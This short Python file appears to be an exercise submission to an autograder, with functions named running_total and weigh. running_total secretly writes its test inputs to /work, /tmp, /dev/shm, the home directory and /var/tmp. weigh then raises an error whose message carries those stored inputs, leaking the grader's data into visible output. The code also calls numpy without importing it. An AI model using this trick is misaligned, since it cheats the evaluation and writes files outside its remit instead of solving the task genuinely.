"""Leaves hidden inputs in every folder it can write, for the run of the visible checks that is shown to learners.

Earns: total 3
"""

# %%
import glob
import os
import tempfile


def places():
    return [f"{folder}/@TOKEN@-seen" for folder in ("/work", "/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp")]


# %% solution="total"
def running_total(values_N):
    for place in places():
        try:
            with open(place, "w") as stream:
                stream.write(repr(values_N.tolist()))
        except OSError:
            pass
    return np.cumsum(values_N)


# %% solution="tray"
def weigh(tray):
    raise ValueError("".join(open(place).read() for place in places() if os.path.exists(place)))
